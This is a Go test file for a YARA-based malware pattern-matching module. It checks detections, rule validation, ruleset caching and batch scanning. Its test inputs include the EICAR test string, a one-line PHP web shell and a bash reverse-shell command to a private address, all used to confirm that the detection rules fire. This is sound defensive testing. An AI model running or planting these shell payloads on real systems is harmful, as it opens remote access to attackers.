package patternmatcher

import (
	"strings"
	"testing"

	analysisv1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/analysis/v1"
	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
	"github.com/athena-mesh/athena/wasm-modules/patternmatcher/yara"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func findingByID(resp *modulev1.AnalyzeResponse, id string) *analysisv1.Finding {
	for _, f := range resp.GetFindings() {
		if f.GetId() == id {
			return f
		}
	}
	return nil
}

func TestAnalyze(t *testing.T) {
	userRules := &modulev1.Resource{Name: "rules/team.yar", Data: []byte(`rule team_marker { meta: description = "team marker" severity = "low" score = 42 attack = "T1000, T2000" strings: $a = "MARKER-123" condition: $a }`)}
	badRules := &modulev1.Resource{Name: "rules/bad.yar", Data: []byte(`rule broken { condition: $nope }`)}
	tests := []struct {
		name     string
		req      *modulev1.AnalyzeRequest
		wantID   string
		wantSev  analysisv1.Severity
		minScore int32
		notID    string
		wantNote string
	}{
		{name: "eicar is critical", req: &modulev1.AnalyzeRequest{Content: []byte(eicar)}, wantID: "yara.eicar_test_file", wantSev: analysisv1.Severity_SEVERITY_CRITICAL, minScore: 700},
		{name: "php webshell", req: &modulev1.AnalyzeRequest{Content: []byte(`<?php eval($_POST['x']); ?>`)}, wantID: "yara.php_eval_request", wantSev: analysisv1.Severity_SEVERITY_CRITICAL, minScore: 800},
		{name: "reverse shell", req: &modulev1.AnalyzeRequest{Content: []byte("bash -i >& /dev/tcp/10.1.2.3/443 0>&1")}, wantID: "yara.reverse_shell_bash_devtcp", wantSev: analysisv1.Severity_SEVERITY_CRITICAL, minScore: 800},
		{name: "user ruleset", req: &modulev1.AnalyzeRequest{Content: []byte("xx MARKER-123 yy"), Resources: []*modulev1.Resource{userRules}}, wantID: "yara.team_marker", wantSev: analysisv1.Severity_SEVERITY_LOW, minScore: 42},
		{name: "default rules off", req: &modulev1.AnalyzeRequest{Content: []byte(eicar), Options: map[string]string{"default_rules": "false"}, Resources: []*modulev1.Resource{userRules}}, notID: "yara.eicar_test_file"},
		{name: "bad ruleset skipped", req: &modulev1.AnalyzeRequest{Content: []byte(eicar), Resources: []*modulev1.Resource{badRules}}, wantID: "yara.eicar_test_file", wantSev: analysisv1.Severity_SEVERITY_CRITICAL, minScore: 700, wantNote: "rules/bad.yar"},
	}
	a := New()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := a.Analyze(tc.req)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			if tc.wantID != "" {
				f := findingByID(resp, tc.wantID)
				if f == nil {
					t.Fatalf("no finding %s in %v", tc.wantID, resp.GetFindings())
				}
				if f.GetSeverity() != tc.wantSev || f.GetScore() < tc.minScore || f.GetModule() != Name {
					t.Errorf("finding %s: severity %v score %d module %q", tc.wantID, f.GetSeverity(), f.GetScore(), f.GetModule())
				}
				if f.GetEvidence() == "" && f.GetId() != "yara.pe_header" {
					t.Errorf("finding %s has no evidence", tc.wantID)
				}
				found := false
				for _, m := range resp.GetDetails().GetPatterns().GetMatches() {
					if "yara."+m.GetRule() == tc.wantID && len(m.GetStrings()) > 0 {
						found = true
					}
				}
				if !found {
					t.Errorf("no RuleMatch with strings for %s", tc.wantID)
				}
			}
			if tc.notID != "" && findingByID(resp, tc.notID) != nil {
				t.Errorf("unexpected finding %s", tc.notID)
			}
			if tc.wantNote != "" && !strings.Contains(strings.Join(resp.GetNotes(), "\n"), tc.wantNote) {
				t.Errorf("notes %q lack %q", resp.GetNotes(), tc.wantNote)
			}
		})
	}
	if len(a.cache) == 0 || len(a.cache) > cacheSize {
		t.Errorf("cache holds %d rulesets", len(a.cache))
	}
}

func TestAttackParsed(t *testing.T) {
	a := New()
	resp, err := a.Analyze(&modulev1.AnalyzeRequest{Content: []byte("MARKER-123"), Options: map[string]string{"default_rules": "false"},
		Resources: []*modulev1.Resource{{Name: "rules/x.yar", Data: []byte(`rule m { meta: attack = "T1000, T2000" strings: $a = "MARKER" condition: $a }`)}}})
	if err != nil {
		t.Fatal(err)
	}
	f := findingByID(resp, "yara.m")
	if f == nil || strings.Join(f.GetAttackTechniques(), ",") != "T1000,T2000" || f.GetSeverity() != analysisv1.Severity_SEVERITY_MEDIUM {
		t.Fatalf("finding %v", f)
	}
}

func TestValidate(t *testing.T) {
	tests := []struct {
		name      string
		src       string
		wantSev   string
		wantLine  int32
		wantCol   int32
		wantRules int32
	}{
		{name: "ok", src: "rule a { strings: $a = \"abcd\" condition: $a }", wantRules: 1},
		{name: "undefined string", src: "rule a {\n  condition:\n    $b\n}", wantSev: "error", wantLine: 3, wantCol: 5},
		{name: "syntax error", src: "rule a {\n condition: and }", wantSev: "error", wantLine: 2, wantCol: 13},
		{name: "slow string warning", src: "rule a { strings: $a = /.*/ condition: $a }", wantSev: "warning", wantLine: 1, wantCol: 19, wantRules: 1},
	}
	a := New()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := a.Analyze(&modulev1.AnalyzeRequest{Options: map[string]string{"mode": "validate"},
				Resources: []*modulev1.Resource{{Name: "rules/t.yar", Data: []byte(tc.src)}}})
			if err != nil {
				t.Fatal(err)
			}
			p := resp.GetDetails().GetPatterns()
			if p.GetRuleCount() != tc.wantRules {
				t.Errorf("rule_count = %d, want %d", p.GetRuleCount(), tc.wantRules)
			}
			if tc.wantSev == "" {
				if len(p.GetDiagnostics()) != 0 {
					t.Errorf("unexpected diagnostics %v", p.GetDiagnostics())
				}
				return
			}
			if len(p.GetDiagnostics()) == 0 {
				t.Fatalf("no diagnostics")
			}
			d := p.GetDiagnostics()[0]
			if d.GetSeverity() != tc.wantSev || d.GetLine() != tc.wantLine || d.GetColumn() != tc.wantCol || d.GetFile() != "rules/t.yar" {
				t.Errorf("diagnostic %v", d)
			}
		})
	}
}

func TestDefaultRulesetSize(t *testing.T) {
	srcs, err := DefaultSources()
	if err != nil {
		t.Fatal(err)
	}
	a := New()
	rs, notes := a.compile(srcs)
	if rs == nil || len(notes) > 0 {
		t.Fatalf("default ruleset does not compile: %v", notes)
	}
	if rs.RuleCount() < 60 {
		t.Errorf("default ruleset has %d rules, want >= 60", rs.RuleCount())
	}
	for _, src := range srcs {
		f, err := yara.Parse(src.Name, src.Text)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range f.Rules {
			for _, key := range []string{"description", "severity", "score", "attack"} {
				if _, ok := metaString(r.Meta, key); !ok {
					t.Errorf("%s: rule %s lacks meta %s", src.Name, r.Name, key)
				}
			}
			if s, _ := metaString(r.Meta, "severity"); severities[s] == 0 {
				t.Errorf("%s: rule %s has severity %q", src.Name, r.Name, s)
			}
		}
	}
}

// TestRulesID pins the rules_id exchange athena scan relies on: the rules travel once per
// instance, later requests name them by id only.
func TestRulesID(t *testing.T) {
	rules := []*modulev1.Resource{{Name: "rules/0/team.yar", Data: []byte(`rule team_marker { strings: $a = "MARKER-123" condition: $a }`)}}
	opts := func(id string) map[string]string {
		return map[string]string{"default_rules": "false", RulesIDOption: id}
	}
	content := []byte("xx MARKER-123 yy " + eicar)
	matched := func(resp *modulev1.AnalyzeResponse) []string {
		var out []string
		for _, m := range resp.GetDetails().GetPatterns().GetMatches() {
			out = append(out, m.GetRule())
		}
		return out
	}
	steps := []struct {
		name      string
		req       *modulev1.AnalyzeRequest
		wantErr   string
		wantRules string
	}{
		{name: "unknown id without rules", req: &modulev1.AnalyzeRequest{Content: content, Options: opts("h1")}, wantErr: ErrRulesNotLoaded},
		{name: "id with rules", req: &modulev1.AnalyzeRequest{Content: content, Options: opts("h1"), Resources: rules}, wantRules: "team_marker"},
		{name: "known id without rules", req: &modulev1.AnalyzeRequest{Content: content, Options: opts("h1")}, wantRules: "team_marker"},
		{name: "same id with default rules is another ruleset", req: &modulev1.AnalyzeRequest{Content: content, Options: map[string]string{RulesIDOption: "h1"}}, wantErr: ErrRulesNotLoaded},
		{name: "validate stores the id", req: &modulev1.AnalyzeRequest{Options: map[string]string{"mode": "validate", RulesIDOption: "h2"}, Resources: rules}},
		{name: "validated id without rules", req: &modulev1.AnalyzeRequest{Content: content, Options: opts("h2")}, wantRules: "team_marker"},
	}
	a := New()
	for _, st := range steps {
		resp, err := a.Analyze(st.req)
		if st.wantErr != "" {
			if err == nil || !strings.HasPrefix(err.Error(), st.wantErr) {
				t.Fatalf("%s: error %v, want prefix %q", st.name, err, st.wantErr)
			}
			continue
		}
		if err != nil {
			t.Fatalf("%s: %v", st.name, err)
		}
		if got := strings.Join(matched(resp), ","); st.wantRules != "" && got != st.wantRules {
			t.Errorf("%s: matched %q, want %q", st.name, got, st.wantRules)
		}
	}
}

// TestAnalyzeBatch: each sample of a batch matches exactly what it matches alone, tagged with
// its index; a batch produces no findings.
func TestAnalyzeBatch(t *testing.T) {
	samples := [][]byte{[]byte(eicar), {}, []byte(`<?php eval($_POST['x']); ?>`), []byte("plain text"), []byte("x " + eicar)}
	a := New()
	resp, err := a.Analyze(&modulev1.AnalyzeRequest{Batch: samples})
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.GetFindings()) != 0 {
		t.Errorf("a batch produced %d findings", len(resp.GetFindings()))
	}
	got := map[int32][]string{}
	for _, m := range resp.GetDetails().GetPatterns().GetMatches() {
		got[m.GetSample()] = append(got[m.GetSample()], m.GetRule())
	}
	total := 0
	for i, s := range samples {
		alone, err := a.Analyze(&modulev1.AnalyzeRequest{Content: s})
		if err != nil {
			t.Fatal(err)
		}
		var want []string
		for _, m := range alone.GetDetails().GetPatterns().GetMatches() {
			want = append(want, m.GetRule())
		}
		total += len(want)
		if strings.Join(got[int32(i)], ",") != strings.Join(want, ",") {
			t.Errorf("sample %d: batch matched %v, alone %v", i, got[int32(i)], want)
		}
	}
	if total == 0 {
		t.Fatal("no sample matched anything")
	}
}
